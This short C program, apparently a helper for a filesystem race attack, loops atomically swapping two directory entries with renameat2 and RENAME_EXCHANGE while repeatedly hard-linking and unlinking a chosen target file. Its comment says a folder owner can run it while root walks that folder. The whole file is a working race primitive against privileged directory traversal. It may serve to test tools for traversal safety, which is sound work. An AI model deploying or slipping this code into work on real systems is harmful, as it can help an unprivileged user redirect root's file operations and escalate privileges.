/*
 * swap DIR TARGET: until it is killed, swaps «here» and «link» in DIR, and makes and removes a further name, «name»,
 * of TARGET there, if it may.  A user who owns a folder can do this while root walks the folder.
 */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int
main(int argc, char **argv)
{
	int dir = argc == 3 ? open(argv[1], O_PATH | O_DIRECTORY) : -1;

	if (dir == -1) {
		perror("swap");
		return 1;
	}
	for (;;) {
		if (renameat2(dir, "here", dir, "link", RENAME_EXCHANGE) == -1) {
			perror("swap");
			return 1;
		}
		if (linkat(AT_FDCWD, argv[2], dir, "name", 0) == 0)
			(void)unlinkat(dir, "name", 0);
	}
}
